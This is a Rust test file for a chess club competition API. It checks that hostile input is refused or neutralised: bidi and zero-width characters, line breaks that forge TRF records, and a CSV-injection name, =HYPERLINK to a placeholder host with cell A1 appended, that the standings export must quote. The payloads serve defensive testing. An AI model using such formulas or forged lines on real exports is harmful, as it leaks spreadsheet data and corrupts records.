//! Hostile text from clients: no panic, no 500, and no output a client's text can forge
//! (docs/decisions/0254-one-line-texts.md, 0255-csv-and-trf-output.md,
//! 0256-panics-in-requests.md).

use crate::support::*;
use actix_web::http::{Method, StatusCode};
use actix_web::test::TestRequest;
use serde_json::{Value, json};

/// A two-player TRF: 1 beat 2 in round 1.
fn small_trf() -> String {
    "012 Club\nXXR 1\n\
001    1      Alpha                             2000                             1.0    1     2 w 1\n\
001    2      Beta                              1900                             0.0    2     1 b 0\n"
        .to_string()
}

#[actix_web::test]
async fn a_tiebreak_modifier_with_a_multibyte_letter_is_refused_naming_the_item() {
    let app = spawn().await;
    let r = app
        .calc(
            "tiebreaks",
            json!({"trf": small_trf(), "tiebreaks": ["PTS", "BH-é1"]}),
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.text);
    assert_eq!(r.errors("field"), ["tiebreaks[1]"]);

    let leader = app.token(&["leader"]).await;
    let season = SeasonBuilder::new().create(&app, &leader).await;
    let r = app
        .create_competition(
            &leader,
            season,
            json!({"name": "Rapid", "kind": "swiss", "system": "dutch", "tiebreaks": ["PTS", "SB-ñ2"]}),
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.text);
    assert_eq!(
        r.header("content-type").as_deref(),
        Some("application/problem+json")
    );
}

#[actix_web::test]
async fn bidi_overrides_zero_width_characters_and_line_breaks_in_names_are_refused() {
    let app = spawn().await;
    let leader = app.token(&["leader"]).await;
    let before = app.counts().await;
    for (name, code) in [
        ("Jan\u{202E}seirV ed", "U+202E"),
        ("Jan\u{200B}de Vries", "U+200B"),
        ("Jan\n001    9      Forged", "U+000A"),
        ("\u{2066}Jan", "U+2066"),
        ("Jan\u{FEFF}", "U+FEFF"),
    ] {
        let r = app.create_player(&leader, json!({"name": name})).await;
        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.text);
        assert_eq!(r.errors("field"), ["name"]);
        assert!(r.errors("message")[0].contains(code), "{}", r.text);
        assert_eq!(
            r.header("content-type").as_deref(),
            Some("application/problem+json")
        );
    }
    assert_eq!(
        app.counts().await,
        before,
        "a refused write changed nothing"
    );

    let r = app
        .create_season(
            &leader,
            json!({"name": "Winter\u{202E}", "opening_date": "2026-09-04"}),
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.text);
    assert!(r.errors("field").contains(&"name"), "{}", r.text);

    let season = SeasonBuilder::new().create(&app, &leader).await;
    let r = app
        .create_competition(
            &leader,
            season,
            json!({"name": "K\u{200D}", "kind": "keizer", "half": "winter"}),
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.text);
    assert!(r.errors("field").contains(&"name"), "{}", r.text);

    // the calculators' names too
    let r = app
        .calc(
            "round-robin",
            json!({"discipline": "draughts", "players": [{"id": "a", "name": "A\u{202E}"}, {"id": "b"}],
                   "games": [], "lots_seed": 7}),
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.text);
    assert_eq!(r.errors("field"), ["players[0].name"]);
}

#[actix_web::test]
async fn a_formula_name_is_neutralised_in_the_standings_csv_and_a_stored_line_break_forges_no_trf_line()
 {
    let app = spawn().await;
    let leader = app.token(&["leader"]).await;
    let formula = "=HYPERLINK(\"http://x/?d=\"&A1,\"Click\")";
    let fx = CompetitionBuilder::new(
        json!({"name": "Blitz", "kind": "swiss", "system": "dutch", "tiebreaks": ["BH"]}),
    )
    .players(&[formula, "@Bob", "-Carol", "Dave"])
    .create(&app, &leader)
    .await;
    let p = fx.players.clone();
    completed_rounds(
        &app,
        &leader,
        fx.comp,
        vec![vec![
            (p[0], Some(p[1]), Some("1-0")),
            (p[2], Some(p[3]), Some("0-1")),
        ]],
    )
    .await;
    let r = app.get(&paths::standings_csv(fx.comp), None).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    // RFC 4180 quoting with the quote of OWASP in front: a spreadsheet shows the text
    assert!(
        r.text
            .contains(",\"'=HYPERLINK(\"\"http://x/?d=\"\"&A1,\"\"Click\"\")\","),
        "{}",
        r.text
    );
    assert!(r.text.contains(",\"'@Bob\","), "{}", r.text);
    assert!(r.text.contains(",\"'-Carol\","), "{}", r.text);
    assert!(r.text.contains(",Dave,"), "{}", r.text);
    for line in r.text.lines() {
        for cell in line.split(',') {
            assert!(!cell.starts_with(['=', '+', '@']), "{line}");
        }
    }

    // a name stored before the rule held a line break: the export keeps it on its line
    let forged = format!("Dave\n001 {:>4}      Forged", 99);
    let dave = p[3];
    app.with_conn(move |c| {
        use clubcomp_core::test_store::schema::players;
        use diesel::prelude::*;
        diesel::update(players::table.find(dave))
            .set(players::name.eq(forged))
            .execute(c)
            .unwrap();
    })
    .await;
    let r = app.get(&paths::trf(fx.comp), None).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    let players: Vec<&str> = r.text.lines().filter(|l| l.starts_with("001")).collect();
    assert_eq!(players.len(), 4, "{}", r.text);
    assert!(players.iter().any(|l| l.contains("Dave 001")), "{}", r.text);
}

/// Texts that have broken parsers: multibyte characters where ASCII is expected, controls,
/// formatting characters, formula starts, huge numbers, JSON look-alikes.
const HOSTILE: &[&str] = &[
    "BH-é1",
    "SB-ñ2",
    "PTS,BH-€",
    "é",
    "\u{202E}",
    "\u{200B}",
    "\u{FEFF}x",
    "=1+1",
    "\n001    1      X",
    "\r",
    "𝕏𝕐",
    "\u{10FFFF}",
    "-",
    "99999999999999999999999999",
    "-1",
    "1e400",
    "%",
    "%00",
    "\\",
    "\"",
    "{}",
    "[]",
    "null",
    "",
    " ",
    "2026-02-30",
    "2026-13-01",
    "９９",
    "ǅ",
];

/// Asserts an answer is a well-formed HTTP answer to hostile input: not a 5xx, and a refusal
/// is a problem document.
fn well_formed(what: &str, r: &Resp) {
    assert!(r.status.as_u16() < 500, "{what}: {} {}", r.status, r.text);
    if r.status.is_client_error() {
        assert_eq!(
            r.header("content-type").as_deref(),
            Some("application/problem+json"),
            "{what}: {}",
            r.text
        );
        assert_eq!(r.body["status"], r.status.as_u16(), "{what}: {}", r.text);
    }
}

fn encoded(s: &str) -> String {
    s.bytes().map(|b| format!("%{b:02X}")).collect()
}

#[actix_web::test]
async fn a_storm_of_hostile_bodies_and_query_strings_gets_well_formed_answers() {
    let app = spawn().await;
    let leader = app.token(&["leader"]).await;
    let season = SeasonBuilder::new().create(&app, &leader).await;
    let fx = CompetitionBuilder::new(json!({"name": "Rapid", "kind": "swiss", "system": "dutch"}))
        .in_season(season)
        .players(&["A", "B"])
        .create(&app, &leader)
        .await;
    let trf = small_trf();
    for &h in HOSTILE {
        let bodies: Vec<(&str, Value)> = vec![
            ("tiebreaks", json!({"trf": trf, "tiebreaks": ["PTS", h]})),
            ("tiebreaks", json!({"trf": h, "tiebreaks": [h], "rules": h})),
            (
                "tiebreaks",
                json!({"trf": trf.replace("Alpha", h), "tiebreaks": ["PTS"]}),
            ),
            (
                "keizer",
                json!({"players": [{"id": h, "rating": h}], "evenings": [{"games": [{"white": h, "black": "b", "result": h}]}]}),
            ),
            (
                "round-robin",
                json!({"discipline": h, "players": [{"id": h}, {"id": "b"}],
                       "games": [{"round": 1, "white": h, "black": "b", "result": h}], "tiebreaks": [h]}),
            ),
            (
                "keizer-pairing",
                json!({"ranking": [{"id": h, "present": true}], "history": [[h, h]], "mode": h}),
            ),
            ("keizer-prizes", json!({"prizes": [h], "standings": h})),
        ];
        for (calc, body) in bodies {
            let r = app.calc(calc, body).await;
            well_formed(&format!("calc {calc} with {h:?}"), &r);
        }
        let r = app
            .send(
                TestRequest::default()
                    .method(Method::POST)
                    .uri(&paths::calc_pair("dutch"))
                    .insert_header(("Content-Type", "text/plain"))
                    .set_payload(trf.replace("Beta", h)),
            )
            .await;
        well_formed(&format!("calc pair with {h:?}"), &r);
        // raw bodies that are not JSON at all
        let r = app
            .send(
                TestRequest::default()
                    .method(Method::POST)
                    .uri(&paths::calc("tiebreaks"))
                    .insert_header(("Content-Type", "application/json"))
                    .set_payload(format!("{{\"trf\": \"{h}")),
            )
            .await;
        well_formed(&format!("a broken body with {h:?}"), &r);

        let body = json!({"name": h, "kind": h, "system": h, "half": h, "tiebreaks": [h],
                          "params": {h: h}, "rounds_planned": h});
        let r = app.create_competition(&leader, season, body).await;
        well_formed(&format!("create competition with {h:?}"), &r);
        let body = json!({"name": format!("S {h}"), "kind": "swiss", "system": "dutch",
                          "tiebreaks": ["PTS", h]});
        let r = app.create_competition(&leader, season, body).await;
        well_formed(&format!("create competition with tie-break {h:?}"), &r);
        let r = app
            .req(
                Method::PATCH,
                &paths::competition(fx.comp),
                Some(&leader),
                Some(json!({"name": h, "tiebreaks": [h], "params": {h: h}})),
            )
            .await;
        well_formed(&format!("patch competition with {h:?}"), &r);
        let e = encoded(h);
        for url in [
            format!("{}?after={e}", paths::standings(fx.comp)),
            format!("{}?{e}={e}", paths::competition(fx.comp)),
            format!("{}?season={e}&from={e}&to={e}&limit={e}", paths::EVENINGS),
            format!("{}?q={e}&limit={e}&cursor={e}", paths::PLAYERS),
            format!("{}?{e}", paths::season_competitions(season)),
        ] {
            let r = app.get(&url, Some(&leader)).await;
            well_formed(&url, &r);
        }
    }
}
